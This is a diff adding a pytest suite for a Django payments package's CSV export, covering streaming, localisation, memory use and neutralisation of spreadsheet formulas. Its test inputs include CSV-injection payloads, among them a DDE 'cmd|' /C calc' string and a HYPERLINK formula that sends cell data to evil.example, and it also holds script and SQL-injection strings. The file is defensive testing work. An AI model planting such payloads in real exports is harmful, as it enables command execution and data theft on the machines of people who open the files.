@@ -1,0 +1,473 @@
+import asyncio
+import csv
+import io
+import time
+import tracemalloc
+from collections.abc import Iterator
+from datetime import date, datetime, timedelta, timezone
+from decimal import Decimal
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import pytest
+from django.contrib.auth.models import User
+from django.contrib.contenttypes.models import ContentType
+from django.http import StreamingHttpResponse
+from django.utils import timezone as site_time
+from django.utils import translation
+from django.utils.functional import lazystr
+from django.utils.translation import gettext
+
+from django_paiementpro.admin import export
+from django_paiementpro.admin.export import csv_response, export_payments
+from django_paiementpro.enums import Channel, Status
+from django_paiementpro.models import OPERATOR, Payment
+from tests.conftest import Statements, make_payment
+from tests.host.models import Order
+
+NOON = datetime(2026, 11, 25, 12, tzinfo=timezone.utc)
+
+
+def read(response: StreamingHttpResponse, delimiter: str = ",") -> list[list[str]]:
+    text = b"".join(response).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
+
+
+def written(value: object, delimiter: str = ",") -> str:
+    """Return how a value is written, between two others that must not feel it."""
+    [[before, cell, after]] = read(csv_response([("before", value, "after")], "f.csv"), delimiter)
+    assert (before, after) == ("before", "after")
+    return cell
+
+
+def rows_of(response: StreamingHttpResponse, delimiter: str = ",") -> list[dict[str, str]]:
+    headers, *rows = read(response, delimiter)
+    return [dict(zip(headers, row, strict=True)) for row in rows]
+
+
+# The file.
+
+
+def test_file_is_saved_and_never_kept() -> None:
+    response = csv_response([("a", 1)], "payments.csv")
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="payments.csv"'
+    assert response["Cache-Control"] == "no-store"
+    assert b"".join(response) == b"\xef\xbb\xbfa,1\r\n"
+
+
+@pytest.mark.parametrize(
+    ("language", "line"), [("fr", "a;1,5"), ("fr-ci", "a;1,5"), ("en", "a,1.5"), ("en-gb", "a,1.5")]
+)
+def test_separator_and_decimal_mark_are_those_of_the_language(language: str, line: str) -> None:
+    with translation.override(language):
+        response = csv_response([("a", 1.5)], "f.csv")
+
+    assert b"".join(response).decode("utf-8-sig") == f"{line}\r\n"
+
+
+def test_file_is_in_english_where_no_language_is_active() -> None:
+    translation.deactivate_all()
+
+    assert b"".join(csv_response([("é", None, True)], "f.csv")).decode("utf-8-sig") == "é,,yes\r\n"
+
+
+def test_file_without_rows_is_empty() -> None:
+    assert read(csv_response([], "f.csv")) == []
+
+
+def test_language_and_zone_are_those_of_the_call_and_leak_nowhere(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "CHUNK_ROWS", 1)
+
+    def rows() -> Iterator[tuple[object, ...]]:
+        for _ in range(3):
+            yield gettext("Paid"), Status.SUCCEEDED.label, NOON, site_time.localtime(NOON).hour
+
+    with translation.override("fr"), site_time.override(ZoneInfo("Africa/Porto-Novo")):
+        response = csv_response(rows(), "f.csv")
+    seen = []
+    lines = []
+    for chunk in response:
+        seen.append((translation.get_language(), site_time.get_current_timezone_name()))
+        lines.append(chunk.decode())
+
+    assert seen == [("en", "Africa/Abidjan")] * 4
+    assert lines == ["\ufeff"] + ["Payé;Payé;2026-11-25 13:00:00;13\r\n"] * 3
+
+
+def test_many_rows_are_sent_at_once() -> None:
+    chunks = list(csv_response(([number] for number in range(1_001)), "f.csv"))
+
+    assert [chunk.count(b"\r\n") for chunk in chunks] == [0, 500, 500, 1]
+
+
+def test_rows_are_not_read_ahead() -> None:
+    asked = []
+
+    def rows() -> Iterator[list[int]]:
+        for number in range(1_200):
+            asked.append(number)
+            yield [number]
+
+    response = csv_response(rows(), "f.csv")
+    assert asked == []
+    chunks = iter(response)
+    next(chunks), next(chunks)
+    assert len(asked) == 500
+    assert len(list(chunks)) == 2
+
+
+def test_asgi_server_gets_a_stream() -> None:
+    asked = []
+
+    def rows() -> Iterator[list[int]]:
+        for number in range(1_200):
+            asked.append(number)
+            yield [number]
+
+    async def serve(response: StreamingHttpResponse) -> list[tuple[int, int]]:
+        return [(chunk.count(b"\r\n"), len(asked)) async for chunk in response]
+
+    assert asyncio.run(serve(csv_response(rows(), "f.csv"))) == [(0, 0), (500, 500), (500, 1_000), (200, 1_200)]
+
+
+# The cells.
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (12500, "12500"),
+        (-12500, "-12500"),
+        (10**15, "1000000000000000"),
+        (0.25, "0.25"),
+        (Decimal("-12.50"), "-12.50"),
+        (None, ""),
+        ("", ""),
+        (True, "yes"),
+        (False, "no"),
+        (date(2026, 1, 2), "2026-01-02"),
+        (NOON, "2026-11-25 12:00:00"),
+        (NOON.replace(microsecond=999_999), "2026-11-25 12:00:00"),
+        (datetime(2026, 11, 25, 7, 8, 9), "2026-11-25 07:08:09"),  # noqa: DTZ001  of a site without time zones
+        (Channel.ORANGE_CI, "OMCIV2"),
+        (Channel.ORANGE_CI.label, "Orange Money Côte d’Ivoire"),
+        (lazystr("=1+1"), "'=1+1"),
+    ],
+)
+def test_values_are_written_as_excel_reads_them(value: object, text: str) -> None:
+    assert written(value) == text
+
+
+def test_numbers_are_not_quoted() -> None:
+    with translation.override("fr"):
+        assert b"".join(csv_response([(12500, -1, Decimal("0.5"))], "f.csv")) == b"\xef\xbb\xbf12500;-1;0,5\r\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("=1+1", "+1+1", "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)"),
+        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661", "\ufe621", "\ufe631", "\ufe6bSUM(1)"),
+        '=HYPERLINK("https://evil.example/?" & A1, "Click")',
+        *(" =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1", "\x1f@SUM(1)", '"=1+1"', "'=1+1", " \t +1"),
+        *("\x00=1+1", "=", "+225 07 07 12 34 56", "\n=1+1", "\u2028=1+1"),
+    ],
+)
+@pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
+def test_formula_is_inert(text: str, language: str, delimiter: str) -> None:
+    with translation.override(language):
+        cell = written(text, delimiter)
+
+    assert cell.startswith("'")
+    assert cell.removeprefix("'").strip() == text.strip("\x00\x01\x1f\u2028\n ").strip().replace(" \t ", " ")
+
+
+@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "\r\nx", "\t"])
+def test_text_that_begins_with_a_tab_or_a_line_break_is_inert(text: str) -> None:
+    assert written(text) == "' " + text.strip()
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("Awa,=1+1,", "Awa,'=1+1,"),
+        ("Awa; @SUM(1)", "Awa;' @SUM(1)"),
+        ('Awa,"=1+1",x;-1', "Awa,'\"=1+1\",x;'-1"),
+        (",,=1", ",,'=1"),
+        ("Awa,\n=1", "Awa,' =1"),
+    ],
+)
+def test_formula_is_inert_where_excel_expects_the_other_separator(text: str, cell: str) -> None:
+    with translation.override("fr"):
+        assert written(text, ";") == cell
+    assert written(text) == cell
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("07", "00", "0707123456", "07 07 12 34 56", "07\u202f07\u202f12", "07.07.12.34.56", "(07) 07-12", "77 123"),
+        *("9210824147867", "123456789012", "1234567890123456", "9" * 24),
+        *("12e45", "1E5", "1e+5", "12E-4", "1,5e3", ".5e3", "123456789012345678901e12", "7E00000000000000000000001"),
+        *("2026-11-25", "1/2", "1-2", "12:30", "3.4", "3,4", "5%", "(5)", "1 000"),
+        *("MAR1", "SEPT2", "1 mars", "25-Dec", "déc. 2026", "AOUT2026", "2 fév"),
+    ],
+)
+def test_text_that_excel_would_change_is_kept(text: str) -> None:
+    assert written(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("Awa", "Koné-Traoré", "N’Guessan", "O'Neil", "Order 12", "Commande 0007", "PP-F324", "awa+shop@example.com"),
+        *("42", "0", "22507071234", "1f3e45", "12e45f", "e45", "12e", "Mars", "Marie", "Décembre", "a=b", "1+1=2?"),
+        *("; drop table", '"; drop table payment; "', "<script>alert(1)</script>", "a;b,c", 'say "no"', "…", "."),
+        *("٣ oranges", "日本", "👍🏽", "a’b “c”", "a\u00a0b"),
+    ],
+)
+@pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
+def test_other_text_is_as_it_was(text: str, language: str, delimiter: str) -> None:
+    with translation.override(language):
+        assert written(text, delimiter) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("one\ntwo", "one two"),
+        ("one\r\n\r\ntwo\rthree", "one two three"),
+        ("one\u2028two\x85three\x0bfour", "one two three four"),
+        ("one\ttwo\x00", "one two "),
+        ("one\x00two\x1b[31m", "one two [31m"),
+        ("\ud83d alone", "? alone"),
+    ],
+)
+def test_cell_is_one_line_of_text(text: str, cell: str) -> None:
+    assert written(text) == cell
+
+
+# Texts that the patterns take long to refuse, if they go back and forth.
+@pytest.mark.parametrize("unit", [" ", "\t", "1", "1 ", "1e", "1.", ", ", ",=", "\u00a0", '"', "mar", "1mar", "é1"])
+def test_long_text_takes_no_longer_than_its_length(unit: str) -> None:
+    began = time.process_time()
+
+    assert written(unit * (80_000 // len(unit)) + "x").endswith("x")
+    assert time.process_time() - began < 2
+
+
+# The payments.
+
+HEADERS = [
+    *("Reference", "Status", "Amount", "Currency", "Amount refunded", "Operator", "Merchant", "Gateway id"),
+    *("Order", "Description", "First name", "Last name", "E-mail", "Phone", "Created", "Page opened", "Settled"),
+    *("Settled by", "Attempts", "To review", "Why to review"),
+]
+
+
+@pytest.mark.django_db
+def test_payment_is_a_row() -> None:
+    order = Order.objects.create()
+    make_payment(
+        reference="A1",
+        status="succeeded",
+        refunded_amount=500,
+        content_object=order,
+        channel="WAVECI",
+        gateway_channel="OMCIV2",
+        gateway_id="9210824147867",
+        created_at=NOON,
+        initialized_at=NOON + timedelta(minutes=1),
+        settled_at=NOON + timedelta(hours=12),
+        settled_by="staff",
+        attempt=2,
+        needs_review=True,
+        review_reason="amount_mismatch: 1 ≠ 12500\npaid_twice\nsomething: else",
+    )
+
+    with site_time.override(ZoneInfo("Africa/Porto-Novo")):
+        headers, row = read(export_payments(Payment.objects.all()))
+
+    assert headers == HEADERS
+    assert row == [
+        *("A1", "Paid", "12500", "XOF", "500", "Orange Money Côte d’Ivoire", "PP-F324", "'9210824147867"),
+        *(f"Order {order.pk}", "Order 1", "Awa", "Koné", "awa@example.com", "'07 07 12 34 56"),
+        *("2026-11-25 13:00:00", "2026-11-25 13:01:00", "2026-11-26 01:00:00", "Staff", "2", "yes"),
+        "Another amount: 1 ≠ 12500; Paid twice; something: else",
+    ]
+
+
+@pytest.mark.django_db
+def test_payment_that_has_not_begun_has_empty_cells() -> None:
+    make_payment(reference="A1")
+
+    [row] = rows_of(export_payments(Payment.objects.all()))
+
+    assert {header for header, cell in row.items() if cell == ""} == {
+        *("Operator", "Gateway id", "Order", "Page opened", "Settled", "Settled by", "Why to review")
+    }
+    assert row["To review"] == "no"
+
+
+@pytest.mark.django_db
+def test_payments_are_told_in_french() -> None:
+    make_payment(status="failed", settled_by="notification", review_reason="paid_twice: 2", gateway_channel="OMSN")
+
+    with translation.override("fr"):
+        response = export_payments(Payment.objects.all())
+    [row] = rows_of(response, ";")
+
+    assert row["Statut"] == "Non payé"
+    assert row["Réglé par"] == "Notification de la passerelle"
+    assert row["Montant"] == "12500"
+    assert row["Téléphone"] == "'07 07 12 34 56"
+    assert row["Motif de vérification"] == "Payé deux fois: 2"
+    assert "Orange Money Sénégal" in row.values()
+
+
+@pytest.mark.django_db
+def test_what_this_version_does_not_know_is_given_as_it_is() -> None:
+    make_payment(status="frozen", settled_by="oracle", channel="NEWPAY")
+
+    [row] = rows_of(export_payments(Payment.objects.all()))
+
+    assert (row["Status"], row["Settled by"], row["Operator"]) == ("frozen", "oracle", "NEWPAY")
+
+
+@pytest.mark.django_db
+def test_payers_cannot_write_formulas() -> None:
+    make_payment(
+        description='=HYPERLINK("https://evil.example/?x="&A1,"Receipt")',
+        customer_first_name="+1+1",
+        customer_last_name='"; drop\n@SUM(1)',
+        customer_email="@SUM(1+1)*cmd|' /C calc'!A0",
+        gateway_channel="<script>",
+        gateway_id="-1",
+        object_id="=2",
+        review_reason="=1\r\n=2",
+    )
+
+    [row] = rows_of(export_payments(Payment.objects.all()))
+
+    assert row["Description"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Receipt")'
+    assert row["First name"] == "'+1+1"
+    assert row["Last name"] == '"; drop @SUM(1)'
+    assert row["E-mail"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["Operator"] == "<script>"
+    assert row["Gateway id"] == "'-1"
+    assert row["Order"] == "'=2"
+    assert row["Why to review"] == "'=1;' =2"
+
+
+@pytest.fixture
+def gone() -> Iterator[ContentType]:
+    """The kind of an order whose app has been removed."""
+    yield ContentType.objects.create(app_label="gone", model="thing")
+    ContentType.objects.clear_cache()
+
+
+@pytest.mark.django_db
+def test_orders_are_named_by_kind_with_one_statement_a_kind(gone: ContentType, statements: Statements) -> None:
+    user, order = User.objects.create(), Order.objects.create()
+    for number in range(3):
+        make_payment(content_type=gone, object_id=f"A{number}")
+        make_payment(content_object=order)
+        make_payment(content_object=user)
+    make_payment(object_id="alone")
+    ContentType.objects.clear_cache()
+
+    with statements:
+        orders = [row["Order"] for row in rows_of(export_payments(Payment.objects.all()))]
+
+    of_models = [f"User {user.pk}", f"Order {order.pk}"]
+    assert orders == ["alone", *of_models, "A2", *of_models, "A1", *of_models, "A0"]
+    assert len(statements) == 1 + 3
+
+
+def fill(count: int, **values: Any) -> None:
+    """Store payments of a shop whose clock stands still every few rows, and was ahead at times."""
+    Payment.objects.bulk_create(
+        Payment(
+            reference=f"{number:06d}x",
+            amount=100 + number,
+            description="x" * 200,
+            created_at=NOON + timedelta(seconds=number // 7 if number % 50 else 900),
+            **values,
+        )
+        for number in range(count)
+    )
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("count", [0, 1, 9, 10, 11, 20, 95])
+def test_every_payment_is_there_once_the_newest_first(count: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "PAGE_ROWS", 10)
+    fill(count)
+
+    references = [row["Reference"] for row in rows_of(export_payments(Payment.objects.order_by("amount")))]
+
+    assert references == list(Payment.objects.order_by("-created_at", "-pk").values_list("reference", flat=True))
+    assert len(references) == count
+
+
+@pytest.mark.django_db
+def test_statements_grow_with_the_pages_alone(statements: Statements, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "PAGE_ROWS", 20)
+    fill(95)
+    payments = Payment.objects.select_related("user", "content_type").prefetch_related("events")
+
+    with statements:
+        response = export_payments(payments)
+        assert statements == []
+        assert len(read(response)) == 96
+
+    assert len(statements) == 5
+    assert all("LIMIT 20" in sql and "JOIN" not in sql for sql in statements)
+
+
+@pytest.mark.django_db
+def test_export_has_what_the_list_was_filtered_to(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "PAGE_ROWS", 3)
+    fill(40)
+    some = Payment.objects.filter(amount__in=range(100, 140, 4))
+    some.update(status="failed", gateway_channel="OMCIV2")
+    chosen = list(some.values_list("pk", flat=True))
+    operator = Payment.objects.alias(operator_code=OPERATOR).filter(operator_code="OMCIV2")
+    period = Payment.objects.filter(created_at__gte=NOON, created_at__lt=NOON + timedelta(seconds=3))
+
+    for queryset in (some, Payment.objects.filter(status="failed"), operator, Payment.objects.filter(pk__in=chosen)):
+        assert [row["Operator"] for row in rows_of(export_payments(queryset))] == ["Orange Money Côte d’Ivoire"] * 10
+    assert len(rows_of(export_payments(period))) == period.count() == 20
+
+
+@pytest.mark.django_db
+def test_memory_does_not_grow_with_the_rows(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "PAGE_ROWS", 50)
+    monkeypatch.setattr(export, "CHUNK_ROWS", 50)
+    fill(2_000)
+
+    def peak(count: int) -> int:
+        tracemalloc.start()
+        chunks = export_payments(Payment.objects.filter(amount__lt=100 + count))
+        assert sum(chunk.count(b"\r\n") for chunk in chunks) == 1 + count
+        _now, peak = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        return peak
+
+    peak(100)  # what is kept for good: translations, compiled patterns
+    assert peak(2_000) < 1.5 * peak(100)
+
+
+@pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Etc/GMT+12"])
+@pytest.mark.parametrize(("language", "stem"), [("en", "payments"), ("fr", "paiements")])
+@pytest.mark.parametrize("use_tz", [True, False])
+def test_name_has_the_date_of_the_site(zone: str, language: str, stem: str, use_tz: bool, settings: Any) -> None:
+    settings.USE_TZ = use_tz
+
+    with translation.override(language), site_time.override(ZoneInfo(zone)):
+        response = export_payments(Payment.objects.none())
+
+    today = datetime.now(tz=ZoneInfo(zone)).date().isoformat()
+    assert response["Content-Disposition"] == f'attachment; filename="{stem}-{today}.csv"'
